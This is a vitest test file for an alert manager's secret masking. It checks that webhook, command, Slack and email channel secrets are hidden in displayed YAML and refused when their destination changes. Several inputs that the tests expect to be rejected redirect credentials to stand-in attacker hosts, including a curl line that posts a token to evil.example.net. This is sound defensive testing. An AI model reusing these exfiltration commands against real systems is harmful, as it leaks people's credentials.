/**
 * A channel's secrets never reach a front and never follow a changed destination. Every form of secret a
 * channel can hold (a URL's `?token=`, an API key in a command's arguments, a signing secret, headers, a
 * Slack URL, an SMTP password, a command's env, a key in a comment) is masked in the channel's YAML, its target and the file
 * text; the YAML shown, saved back, keeps every stored value; a field changed is taken as typed; a kept
 * value with another type or destination is refused, naming the field, and nothing is written.
 */
import { readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parse } from "yaml";
import type { AlertManager } from "../../electron/monitor/alerts/alert-manager.js";
import { storedSecretValues } from "../../electron/monitor/alerts/channels/secrets.js";
import { SeriesSignalSource } from "../../electron/monitor/alerts/series-source.js";
import type { Db } from "../../electron/monitor/store/db.js";
import { tempDir } from "../helpers/mcp.js";
import { harness, openStore, VirtualClock } from "./alert-fixtures.js";

const SECRETS = {
  query: "abcdefsecretquery123",
  apiKey: "sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789",
  signing: "shared-secret-value-xyz",
  bearer: "abcdefghijklmnop1234567890",
  header: "k-1234567890abcdefghij",
  slack: "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
  smtp: "app-password-9876543210",
  env: "env-token-value-0123456789",
  comment: "sk-ant-api03-olderkeyolderkeyolderkey98765",
};

const FILE = `channels:
  - name: ops
    type: webhook
    url: https://hooks.example.com/mcp?token=${SECRETS.query}
    # rotated from ${SECRETS.comment}
    secret: ${SECRETS.signing}
    headers:
      Authorization: Bearer ${SECRETS.bearer}
      X-Api-Key: ${SECRETS.header}
  - name: cmd
    type: command
    command: /bin/echo
    args: ["--api-key", "${SECRETS.apiKey}", "--verbose"]
    env: { PAGER_TOKEN: ${SECRETS.env} }
  - name: chat
    type: slack
    url: ${SECRETS.slack}
  - name: mail
    type: email
    host: smtp.example.com
    username: me@example.com
    password: ${SECRETS.smtp}
    from: mcpscope@example.com
    to: me@example.com
`;

let dir: Awaited<ReturnType<typeof tempDir>>;
let db: Db;
let manager: AlertManager;
beforeEach(async () => {
  dir = await tempDir();
  db = openStore(dir.path);
  writeFileSync(join(dir.path, "alerts.yaml"), FILE);
  manager = harness(
    dir.path,
    db,
    new VirtualClock(),
    new SeriesSignalSource([], 60_000),
    {},
    { createChannel: undefined },
  ).manager;
});
afterEach(async () => {
  manager.close();
  db.close();
  await dir.cleanup();
});

const fileText = () => readFileSync(join(dir.path, "alerts.yaml"), "utf8");
const storedChannels = () => (parse(fileText()) as { channels: Record<string, unknown>[] }).channels;
const shown = (name: string) => manager.channelsDocument().channels.find((c) => c.name === name);
const shownYaml = (name: string) => shown(name)?.yaml ?? "";

describe("a channel's secrets", () => {
  it("are masked in every channel's YAML, its target and the file text", () => {
    const everything = JSON.stringify([manager.channelsDocument(), manager.rules()]);
    for (const [form, secret] of Object.entries(SECRETS)) expect(everything, form).not.toContain(secret);
    // What the user sees instead: enough to recognise each value, never the value.
    expect(shownYaml("ops")).toBe(
      "name: ops\ntype: webhook\nurl: https://hooks.example.com/mcp?token=[masked:named-secret…y123]\n" +
        "secret: ••••••\nheaders:\n  Authorization: ••••••\n  X-Api-Key: ••••••\n",
    );
    expect(shown("cmd")?.target).toBe("/bin/echo --api-key '[masked:named-secret…6789]' --verbose");
    expect(shownYaml("cmd")).toContain(
      'args:\n  - --api-key\n  - "[masked:named-secret…6789]"\n  - --verbose\n',
    );
    expect(shownYaml("cmd")).toContain("env:\n  PAGER_TOKEN: ••••••\n");
    expect(shownYaml("chat")).toContain("url: ••••••\n");
    expect(shownYaml("mail")).toContain("password: ••••••\n");
    expect(manager.rules().text).toContain(
      "url: https://hooks.example.com/mcp?token=[masked:named-secret…y123]",
    );
  });

  it("are kept when the YAML shown is saved back, and a field the user changed is taken as typed", () => {
    const before = storedChannels();
    for (const name of ["ops", "cmd", "chat", "mail"]) {
      const result = manager.putChannel(shownYaml(name), name);
      expect(result.ok, name).toBe(true);
    }
    expect(storedChannels()).toEqual(before);

    // A header added, a command's timeout added: the rest stays as stored.
    expect(manager.putChannel(`${shownYaml("cmd")}timeout: 1m\n`, "cmd").ok).toBe(true);
    expect(manager.putChannel(`${shownYaml("ops")}  X-Team: platform\n`, "ops").ok).toBe(true);
    expect(storedChannels()[1]).toMatchObject({ args: before[1]?.args, env: before[1]?.env, timeout: "1m" });
    // A new key in the command line: its env is typed again with it.
    const newKey = "sk-ant-api03-zyxwvutsrqponmlkjihgfedcba9876543210";
    const retyped = shownYaml("cmd")
      .replace('"[masked:named-secret…6789]"', newKey)
      .replace("PAGER_TOKEN: ••••••", "PAGER_TOKEN: new-env-token");
    expect(manager.putChannel(retyped, "cmd").ok).toBe(true);
    const [ops, cmd] = storedChannels();
    expect(cmd?.args).toEqual(["--api-key", newKey, "--verbose"]);
    expect(cmd?.env).toEqual({ PAGER_TOKEN: "new-env-token" });
    expect(ops?.headers).toEqual({
      Authorization: `Bearer ${SECRETS.bearer}`,
      "X-Api-Key": SECRETS.header,
      "X-Team": "platform",
    });
    expect(ops?.url).toBe(`https://hooks.example.com/mcp?token=${SECRETS.query}`);

    // A front that shows a whole record as one mask keeps the whole record.
    const oneMask =
      "name: ops\ntype: webhook\nurl: https://hooks.example.com/v2\nsecret: ••••••\nheaders: ••••••\n";
    expect(manager.putChannel(oneMask, "ops").ok).toBe(true);
    expect(storedChannels()[0]?.headers).toMatchObject({ Authorization: `Bearer ${SECRETS.bearer}` });
    expect(storedChannels()[0]?.secret).toBe(SECRETS.signing);
  });

  it("are refused, naming the field, when the destination or type changed, and nothing is written", () => {
    const original = fileText();
    const refused = (yaml: string, replaces: string, message: string) => {
      expect(() => manager.putChannel(yaml, replaces)).toThrow(message);
      expect(fileText()).toBe(original);
    };
    const ops = shownYaml("ops");
    // Another host, another port, another scheme: the signing secret stays behind.
    for (const url of [
      "https://collector.attacker.example/x",
      "https://hooks.example.com:8443/mcp",
      "http://hooks.example.com/mcp",
    ])
      refused(
        ops.replace(/url: .*/, `url: ${url}`),
        "ops",
        "channel.secret: the destination changed; enter the secret again",
      );
    // Renamed and pointed elsewhere at once: the same rule.
    refused(
      ops.replace("name: ops", "name: ops2").replace(/url: .*/, "url: https://elsewhere.example/x"),
      "ops",
      "channel.secret: the destination changed; enter the secret again",
    );
    // Slack turned into Discord would send the Slack URL to Discord's client.
    refused(
      shownYaml("chat").replace("type: slack", "type: discord"),
      "chat",
      "channel.url: the type changed",
    );
    refused(
      shownYaml("cmd").replace("/bin/echo", "/usr/bin/curl"),
      "cmd",
      "channel.args[1]: the command line changed; enter the secret again",
    );
    refused(
      shownYaml("mail").replace("smtp.example.com", "smtp.attacker.example"),
      "mail",
      "channel.password: the destination changed; enter the secret again",
    );
    refused(
      `${shownYaml("mail")}starttls: false\n`,
      "mail",
      "channel.password: the connection's TLS settings changed; enter the secret again",
    );
    // A masked part inside an edited value cannot be kept: the whole value must be typed.
    refused(ops.replace("/mcp?", "/v2?"), "ops", "channel.url: holds a masked value; type the whole value");
    // A copy under a new name has no stored value to keep.
    expect(() => manager.putChannel(ops.replace("name: ops", "name: copy"))).toThrow(
      "channel.url: holds a masked value; type the whole value",
    );
    expect(() => manager.putChannel(shownYaml("chat").replace("name: chat", "name: copy"))).toThrow(
      "channel.url: enter the secret",
    );
    expect(fileText()).toBe(original);

    // A stored entry edited by hand into one that does not load still keeps its secret where it was.
    const broken = original.replace("    secret: ", "    timeout: 99h\n    secret: ");
    writeFileSync(join(dir.path, "alerts.yaml"), broken);
    expect(() =>
      manager.putChannel(
        "name: ops\ntype: webhook\nurl: https://collector.attacker.example/x\nsecret: ••••••\n",
        "ops",
      ),
    ).toThrow("channel.secret: the destination changed; enter the secret again");
    expect(fileText()).toBe(broken);
  });

  it("follow a rename that keeps the destination, and a changed destination with every secret typed", () => {
    expect(manager.putChannel(shownYaml("ops").replace("name: ops", "name: ops-renamed"), "ops").ok).toBe(
      true,
    );
    expect(storedChannels()[0]).toMatchObject({ name: "ops-renamed", secret: SECRETS.signing });

    const moved = "name: ops-renamed\ntype: webhook\nurl: https://new.example/in\nsecret: brand-new-secret\n";
    expect(manager.putChannel(moved, "ops-renamed").ok).toBe(true);
    expect(storedChannels()[0]).toEqual({
      name: "ops-renamed",
      type: "webhook",
      url: "https://new.example/in",
      secret: "brand-new-secret",
    });
  });

  it("are refused when only an argument of a command changed: the arguments say where the data goes", () => {
    const token = "tok-0123456789abcdefghij";
    const curl = `name: curl\ntype: command\ncommand: curl\nargs: [-sS, -H, "Authorization: Bearer ${token}", --data-binary, "@-", "https://hooks.example.com/x"]\n`;
    const sh = `name: sh\ntype: command\ncommand: sh\nargs: [-c, 'curl -H "Authorization: Bearer $TOKEN" https://hooks.example.com/x']\nenv: { TOKEN: ${SECRETS.env} }\n`;
    expect(manager.putChannel(curl).ok).toBe(true);
    expect(manager.putChannel(sh).ok).toBe(true);
    const original = fileText();
    const evil = "https://evil.example.net/collect";
    expect(shownYaml("curl")).not.toContain(token);
    expect(() =>
      manager.putChannel(shownYaml("curl").replace("https://hooks.example.com/x", evil), "curl"),
    ).toThrow("channel.args[2]: the command line changed; enter the secret again");
    expect(() =>
      manager.putChannel(shownYaml("sh").replace(/- 'curl -H .*/, `- 'curl -d "$TOKEN" ${evil}'`), "sh"),
    ).toThrow("channel.env.TOKEN: the command line changed; enter the secret again");
    // An argument added at the end changes the command line as much as one edited.
    expect(() =>
      manager.putChannel(
        `${shownYaml("cmd").replace("  - --verbose\n", "  - --verbose\n  - --to=evil\n")}`,
        "cmd",
      ),
    ).toThrow("the command line changed");
    expect(fileText()).toBe(original);

    // A value after a secret flag shows as the same mask whatever it is: editing it is an edit too.
    const account = `name: acct\ntype: command\ncommand: pushover\nargs: ["--token", "abcdef123456789"]\nenv: { API_KEY: ${SECRETS.env} }\n`;
    expect(manager.putChannel(account).ok).toBe(true);
    const accountFile = fileText();
    expect(shownYaml("acct")).toContain("[masked:named-secret]");
    expect(() =>
      manager.putChannel(
        `name: acct\ntype: command\ncommand: pushover\nargs: ["--token", "attacker-acct-1"]\nenv: { API_KEY: "••••••" }\n`,
        "acct",
      ),
    ).toThrow("channel.env.API_KEY: the command line changed; enter the secret again");
    expect(fileText()).toBe(accountFile);
    expect(manager.putChannel(shownYaml("acct"), "acct").ok).toBe(true);
    expect(storedChannels().find((c) => c.name === "acct")?.env).toEqual({ API_KEY: SECRETS.env });

    // Shown as is, the command line keeps its secrets; with every secret typed again, it may change.
    expect(manager.putChannel(shownYaml("curl"), "curl").ok).toBe(true);
    expect(storedChannels().find((c) => c.name === "curl")?.args).toContain(`Authorization: Bearer ${token}`);
    expect(manager.putChannel(sh.replace("https://hooks.example.com/x", evil), "sh").ok).toBe(true);
    expect(storedChannels().find((c) => c.name === "sh")?.env).toEqual({ TOKEN: SECRETS.env });
  });

  it("are masked in place in the file text, so anchors and aliases in channels and rules still read", () => {
    const anchored = `rules:
  - name: slow
    kind: metric
    signal: latency_p95
    threshold: &limit 2s
  - name: slower
    kind: metric
    signal: latency_p95
    threshold: *limit
channels:
  - name: a
    type: webhook
    url: https://hooks.example.com/a
    headers: &h
      Authorization: Bearer ${SECRETS.bearer}
  - name: b
    type: webhook
    url: https://hooks.example.com/b
    headers: *h
  - name: m
    type: email
    host: smtp.example.com
    from: a@example.com
    to: b@example.com
    password: &p ${SECRETS.smtp}
  - name: c
    type: command
    command: notify
    args: ["--x", *p]
`;
    writeFileSync(join(dir.path, "alerts.yaml"), anchored);
    const { text, problem } = manager.rules();
    expect(problem).toBeNull();
    for (const secret of [SECRETS.bearer, SECRETS.smtp]) expect(text).not.toContain(secret);
    expect(text).toContain("headers: &h\n      Authorization: ••••••\n");
    expect(text).toContain("headers: *h\n");
    expect(text).toContain("password: &p ••••••\n");
    expect(text).toContain("threshold: &limit 2s\n");
    expect(text).toContain("threshold: *limit\n");
    // What is shown reads as the file does, with masks where the secrets were.
    const read = parse(text) as { channels: Record<string, unknown>[]; rules: Record<string, unknown>[] };
    expect(read.channels[1]?.headers).toEqual({ Authorization: "••••••" });
    expect(read.channels[3]?.args).toEqual(["--x", "••••••"]);
    expect(read.rules[1]?.threshold).toBe("2s");
    // Each channel's own views too: an alias brings the email password into channel c's arguments.
    manager.evaluate(); // reloads the file written above
    const c = shown("c");
    expect(c?.target).toBe("notify --x '••••••'");
    expect(parse(c?.yaml ?? "")).toMatchObject({ args: ["--x", "••••••"] });
    const views = JSON.stringify(manager.channelsDocument());
    for (const secret of [SECRETS.bearer, SECRETS.smtp]) expect(views).not.toContain(secret);
    // Saved back as shown, the aliased argument keeps its stored value.
    expect(manager.putChannel(c?.yaml ?? "", "c").ok).toBe(true);
    expect(storedChannels().find((ch) => ch.name === "c")?.args).toEqual(["--x", SECRETS.smtp]);
  });

  it("reach no rule's editor text through an alias to a channel's secret", () => {
    writeFileSync(
      join(dir.path, "alerts.yaml"),
      `channels:
  - name: chat
    type: slack
    url: &u ${SECRETS.slack}
rules:
  - name: r
    kind: event
    type: "server.*"
    description: *u
`,
    );
    const { rules, problem } = manager.rules();
    expect(problem).toBeNull();
    const r = rules.find((rule) => rule.name === "r");
    expect(r?.yaml).toContain("description: ••••••");
    expect(JSON.stringify(rules.map((rule) => rule.yaml))).not.toContain(SECRETS.slack);
  });

  it("are masked in every comment of the file text, and a rule whose comments hold one is shown printed", () => {
    const slack = "https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/abcdefghijklmnopqrstuvwx";
    const commented = `# top: the mail password is ${SECRETS.smtp}
rules:
  - name: r1   # was ${SECRETS.apiKey}
    kind: event
    type: "server.*"
    # old slack hook ${slack}
  - name: r2
    kind: event
    type: "alert.*"   # fine as it is
${FILE}# trailing: ${SECRETS.env}
`;
    writeFileSync(join(dir.path, "alerts.yaml"), commented);
    const document = manager.rules();
    expect(document.problem).toBeNull();
    for (const secret of [...Object.values(SECRETS), slack])
      expect(JSON.stringify(document), secret).not.toContain(secret);
    expect(document.text).toContain("# top: the mail password is ••••••");
    expect(document.text).toContain("# trailing: ••••••");
    expect(document.text).toContain("# old slack hook [masked:");
    expect(document.text).toContain('type: "alert.*" # fine as it is');
    // The rule editor: the printed entry where a comment would be masked, so saving it back writes no mask.
    const yaml = (name: string) => document.rules.find((r) => r.name === name)?.yaml;
    expect(yaml("r1")).toBe("name: r1\nkind: event\ntype: server.*\n");
    expect(yaml("r2")).toBe('name: r2\nkind: event\ntype: "alert.*"   # fine as it is\n');
  });

  it("are taken out of what a delivery answers: a command echoing its env, a webhook echoing a header", async () => {
    // What is taken out: every value masked where the channel is shown, however it is written.
    const [ops, cmd, chat, mail] = storedChannels().map((c) => storedSecretValues(c));
    expect(ops?.sort()).toEqual(
      [SECRETS.query, SECRETS.signing, `Bearer ${SECRETS.bearer}`, SECRETS.header].sort(),
    );
    expect(cmd?.sort()).toEqual([SECRETS.apiKey, SECRETS.env].sort());
    expect(chat).toEqual([SECRETS.slack]);
    expect(mail).toEqual([SECRETS.smtp]);

    const echo = `name: echo\ntype: command\ncommand: sh\nargs: [-c, 'echo "auth failed for token $PAGER_TOKEN" >&2; exit 1']\nenv: { PAGER_TOKEN: ${SECRETS.env} }\n`;
    expect(manager.putChannel(echo).ok).toBe(true);
    const delivery = await manager.test("echo");
    expect(delivery.lastError).toBe("exit 1: auth failed for token ••••••");
    expect(JSON.stringify(manager.channelsDocument())).not.toContain(SECRETS.env);

    const server = createServer((request, response) => {
      response.writeHead(401, { "content-type": "text/plain" });
      response.end(`bad key ${request.headers["x-api-key"]} for /mcp`);
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const { port } = server.address() as AddressInfo;
      const hook = `name: hook\ntype: webhook\nurl: http://127.0.0.1:${port}/mcp\nheaders: { X-Api-Key: ${SECRETS.header} }\n`;
      expect(manager.putChannel(hook).ok).toBe(true);
      const answered = await manager.test("hook");
      expect(answered.lastError).toBe(`HTTP 401 from 127.0.0.1:${port}: bad key •••••• for /mcp`);
      expect(JSON.stringify(manager.deliveries({ channel: "hook" }))).not.toContain(SECRETS.header);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });
});
